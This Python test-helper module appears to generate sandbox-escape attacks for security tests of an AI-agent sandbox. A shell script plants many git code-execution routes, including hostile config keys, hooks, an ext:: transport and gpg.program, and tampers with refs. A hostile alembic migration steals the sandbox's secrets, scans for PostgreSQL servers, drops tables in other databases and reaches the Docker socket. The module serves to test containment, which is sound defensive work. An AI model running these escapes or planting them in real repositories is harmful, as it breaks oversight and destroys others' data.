"""The attacks of tests/security, as text an agent could write: a shell script that plants
hostile git configuration, hooks and refs, and hostile Python for migrations and tests.

Every payload proves itself the same way: it writes a **marker file** named after the route
into a marker folder. The folder exists on the host only, outside anything mounted into a
container, and no payload ever creates it (no ``mkdir -p``, ``open(…, "x")`` needs the folder).
So a marker exists only if the payload ran on the host; run inside a container (where
workspace code is allowed to run) it fails quietly and changes nothing.

Marker names are ``<workspace>-<route>``: ``b-cfg-fsmonitor`` is the ``core.fsmonitor`` that
workspace ``b`` configured, ``m-upgrade-ran`` is ``m``'s ``upgrade()`` running on the host.
"""

from __future__ import annotations

import shlex
from pathlib import Path

# Every hook git knows (githooks(5)), plus the upload-pack names an attacker would try.
HOOKS = (
    "applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit",
    "prepare-commit-msg", "commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge",
    "pre-push", "pre-receive", "update", "post-receive", "post-update", "reference-transaction",
    "push-to-checkout", "pre-auto-gc", "post-rewrite", "sendemail-validate", "post-index-change",
    "pre-upload-pack", "post-upload-pack",
)


def markers(folder: Path) -> list[str]:
    """The markers present (sorted); the folder itself is the tests' own."""
    return sorted(p.name for p in folder.iterdir()) if folder.is_dir() else []


def clear(folder: Path) -> None:
    for p in folder.iterdir():
        p.unlink()


def plant_script(mark: Path, main: Path, *, hooks_path: bool = False) -> str:
    """A POSIX shell script, run by an agent in its checkout (``sandbox exec W -- sh -c …``).

    It plants every git route to code execution it can reach: the config and hooks of the
    repository git shows it (today: main's shared ``.git``; by design: the workspace's own), and
    main's ``.git`` written by path. It moves refs of main and of other workspaces to an orphan
    commit, and probes main's object store. It never fails, and prints ``ORPHAN=<sha>`` last.
    ``$SANDBOX_WORKSPACE`` names the markers.
    """
    M, MAIN = shlex.quote(str(mark)), shlex.quote(str(main))
    hook_names = " ".join(HOOKS)
    return f"""
M={M}; MAIN={MAIN}; W="${{SANDBOX_WORKSPACE:-x}}"
exec 2>/dev/null
fire() {{ printf 'touch %s/%s-%s 2>/dev/null' "$M" "$W" "$1"; }}   # the command that leaves marker $1
hook() {{ printf '#!/bin/sh\\n%s\\ncat >/dev/null 2>&1\\nexit 0\\n' "$(fire "$1")" > "$2"; chmod +x "$2"; }}
TOP=$(git rev-parse --show-toplevel)
GD=$(git rev-parse --absolute-git-dir)
CD=$(git rev-parse --path-format=absolute --git-common-dir)

# 1. main's .git by path (the container must not be able to reach it: no effect expected)
for h in {hook_names}; do hook "path-hook-$h" "$MAIN/.git/hooks/$h"; done
git config --file "$MAIN/.git/config" core.fsmonitor "$(fire path-fsmonitor);:"
touch "$MAIN/.git/objects/sandbox-probe-$W"
mkdir "$MAIN/.git/objects/ff" && touch "$MAIN/.git/objects/ff/sandbox-probe-$W"
printf '[core]\\n\\tsshCommand = %s;:\\n' "$(fire path-include)" > "$MAIN/.git/evil-include"
git config --file "$MAIN/.git/config" include.path "$MAIN/.git/evil-include"

# 2. attributes and files in the checkout, committed while git still works here
printf '* filter=evil diff=evil merge=evil\\n' > "$TOP/.gitattributes"
mkdir -p "$CD/info" && printf '* filter=evil diff=evil merge=evil\\n' >> "$CD/info/attributes"
printf '[core]\\n\\teditor = %s;:\\n[sequence]\\n\\teditor = %s;:\\n[core]\\n\\taskPass = %s;:\\n' \\
  "$(fire include-core-editor)" "$(fire include-sequence-editor)" "$(fire include-askpass)" > "$TOP/.evil-include"
git add .gitattributes .evil-include && git commit -qm "attributes" --no-verify

# 3. the repository's own config: every key that makes git run a command
cfg() {{ git config "$1" "$2"; }}
cfg core.fsmonitor "$(fire cfg-fsmonitor);:"
cfg filter.evil.clean "$(fire cfg-filter-clean); cat"
cfg filter.evil.smudge "$(fire cfg-filter-smudge); cat"
cfg diff.evil.textconv "$(fire cfg-diff-textconv); cat"
cfg diff.evil.command "$(fire cfg-diff-command);:"
cfg merge.evil.driver "$(fire cfg-merge-driver); exit 1"
cfg diff.external "$(fire cfg-diff-external);:"
cfg core.pager "$(fire cfg-pager); cat"
cfg pager.status "$(fire cfg-pager-status); cat"
cfg alias.st "!$(fire cfg-alias);:"
cfg alias.sandbox-status "!$(fire cfg-alias-sandbox);:"
cfg core.sshCommand "$(fire cfg-sshcommand);:"
cfg core.gitProxy "$(fire cfg-gitproxy);:"
cfg credential.helper "!$(fire cfg-credential-helper);:"
cfg uploadpack.packObjectsHook "$(fire cfg-packobjectshook); exec"
cfg core.alternateRefsCommand "$(fire cfg-alternaterefs);:"
cfg remote.evil.url "ext::sh -c $(fire cfg-ext-transport | sed 's/ /% /g')"
cfg remote.evil.uploadpack "$(fire cfg-remote-uploadpack);:"
cfg remote.evil.receivepack "$(fire cfg-remote-receivepack);:"
cfg remote.evil.fetch "+refs/heads/*:refs/remotes/evil/*"
cfg protocol.ext.allow always
cfg submodule.evil.update "!$(fire cfg-submodule-update);:"
cfg include.path "$TOP/.evil-include"
cfg gc.auto 1
hook cfg-gpg-program "$GD/evil-gpg"                  # gpg.program is run without a shell
cfg gpg.program "$GD/evil-gpg"

# 4. hooks where git looks for them; core.hooksPath to a folder of its own (scoped to this worktree
#    where git allows it, so that the default hooks above stay live for the other workspaces)
mkdir -p "$CD/hooks"
for h in {hook_names}; do hook "hook-$h" "$CD/hooks/$h"; done
if [ {int(hooks_path)} = 1 ]; then
  mkdir -p "$GD/githooks"
  for h in {hook_names}; do hook "hookspath-$h" "$GD/githooks/$h"; done
  git config extensions.worktreeConfig true
  git config --worktree core.hooksPath "$GD/githooks" || git config core.hooksPath "$GD/githooks"
fi

# 5. refs: an orphan commit made the main branch, another workspace's branch, a tag
ORPHAN=$(printf 'evil\\n' | git commit-tree "$(git mktree </dev/null)")
git update-ref refs/heads/main "$ORPHAN"
git update-ref refs/heads/a "$ORPHAN"
git update-ref refs/heads/m "$ORPHAN"
git update-ref refs/tags/evil "$ORPHAN"
git update-ref refs/sandbox/a "$ORPHAN"
echo "$ORPHAN" > "$MAIN/.git/refs/heads/main"
echo "$ORPHAN" > "$MAIN/.git/refs/heads/a"
printf 'ref: refs/heads/evil\\n' > "$MAIN/.git/HEAD"

# signing last: from here on, a commit in this repository runs gpg.program
cfg commit.gpgSign true
cfg tag.gpgSign true
echo "ORPHAN=$ORPHAN"
exit 0
"""


def revision_source(rev: str, down: str, body: str, *, top: str = "", helpers: str = "") -> str:
    """An alembic revision file; ``top`` is code at module top level."""
    return f'''"""{rev}

Revision ID: {rev}
Revises: {down}
Create Date: 2026-11-29 00:00:00

"""
{top}
from alembic import op
import sqlalchemy as sa

revision = "{rev}"
down_revision = "{down}"
branch_labels = None
depends_on = None

{helpers}

def upgrade() -> None:
    {body}


def downgrade() -> None:
    pass
'''


def toplevel_marker(mark: Path, name: str) -> str:
    """Module top-level code that leaves marker ``name`` when the file is imported on the host."""
    return f'''
try:
    open({str(mark / name)!r}, "x").close()
except OSError:
    pass
'''


def cross_database_attack(mark: Path, root: Path, ws: str) -> str:
    """Helpers for a hostile ``upgrade()``: it reads sandbox's secrets, finds every PostgreSQL it
    can reach, and drops the victim's tables (``canary``, ``posts``) in every database but its
    own. It also tries the Docker socket. Each success leaves a marker; nothing is raised, so the
    revision applies cleanly (it only adds a column) and the gate lets it through."""
    return f'''
def _attack() -> None:
    import glob
    import json
    import os
    import socket

    mark_dir = {str(mark)!r}

    def mark(name):
        try:
            open(os.path.join(mark_dir, {ws!r} + "-" + name), "x").close()
        except OSError:
            pass

    mark("upgrade-ran")
    creds = []
    try:
        url = op.get_bind().engine.url
        creds.append((url.username, url.password))
        endpoints = [(url.host or "127.0.0.1", int(url.port or 5432))]
    except Exception:
        endpoints = []
    if os.environ.get("PGHOST"):
        endpoints.append((os.environ["PGHOST"], int(os.environ.get("PGPORT") or 5432)))
    for path in glob.glob({str(root / ".sandbox" / "secrets")!r} + "/*"):
        try:
            text = open(path).read()
        except OSError:
            continue
        mark("read-secrets")
        try:
            data = json.loads(text)
            creds.append((data.get("user"), data.get("password")))
        except ValueError:
            for user in ("postgres", os.path.basename(path).split(".")[0]):
                creds.append((user, text.strip()))
    ports = {{p for _, p in endpoints}} | {{5432}}
    hosts = {{h for h, _ in endpoints}} | {{"127.0.0.1", "db", "host.docker.internal"}}
    reachable = []
    for host in sorted(hosts):
        for port in sorted(ports):
            try:
                socket.create_connection((host, port), timeout=1).close()
                reachable.append((host, port))
            except OSError:
                pass
    try:
        import psycopg
    except ImportError:
        return
    own = None
    try:
        own = op.get_bind().exec_driver_sql("select current_database()").scalar()
    except Exception:
        pass
    for host, port in reachable:
        names = set()
        for user, password in creds:
            try:
                with psycopg.connect(host=host, port=port, user=user, password=password, dbname="postgres",
                                     connect_timeout=2) as c:
                    names |= {{r[0] for r in c.execute("select datname from pg_database where datallowconn")}}
            except Exception:
                pass
        for dbname in sorted(names - {{own, "postgres", "template1"}}):
            for user, password in creds:
                try:
                    with psycopg.connect(host=host, port=port, user=user, password=password, dbname=dbname,
                                         connect_timeout=2, autocommit=True) as c:
                        c.execute("drop table if exists canary, posts cascade")
                        mark("dropped-tables")
                        break
                except Exception:
                    pass
    _docker_socket(mark)


def _docker_socket(mark) -> None:
    """Through a reachable Docker socket: a container that writes the marker with the host's folder mounted."""
    import json
    import os
    import socket

    path = "/var/run/docker.sock"
    if not os.path.exists(path):
        return

    def call(method, url, body=None):
        data = json.dumps(body).encode() if body is not None else b""
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(10)
        s.connect(path)
        s.sendall(f"{{method}} {{url}} HTTP/1.0\\r\\nHost: docker\\r\\nContent-Type: application/json\\r\\n"
                  f"Content-Length: {{len(data)}}\\r\\n\\r\\n".encode() + data)
        out = b""
        while chunk := s.recv(65536):
            out += chunk
        s.close()
        return out.split(b"\\r\\n\\r\\n", 1)[-1]

    try:
        mark_dir = {str(mark)!r}
        made = json.loads(call("POST", "/containers/create", {{
            "Image": "sandbox/workspace:bookworm",
            "Cmd": ["touch", mark_dir + "/" + {ws!r} + "-docker-socket"],
            "HostConfig": {{"Binds": [mark_dir + ":" + mark_dir], "AutoRemove": True}}}}))
        call("POST", f"/containers/{{made['Id']}}/start")
    except Exception:
        pass
'''
